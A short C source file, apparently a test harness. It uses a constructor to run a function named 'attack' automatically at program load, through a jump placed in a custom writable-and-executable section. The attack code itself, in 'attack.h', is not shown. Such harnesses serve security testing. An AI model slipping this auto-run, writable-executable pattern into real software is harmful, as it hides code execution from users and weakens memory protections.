#include "attack.h"
__asm__(".section .own,\"awx\",@progbits\n.globl own\nown: jmp attack\n.text");
void own(void);
void *keep = attack;
__attribute__((constructor)) static void early(void) { own(); }
#include "body.h"
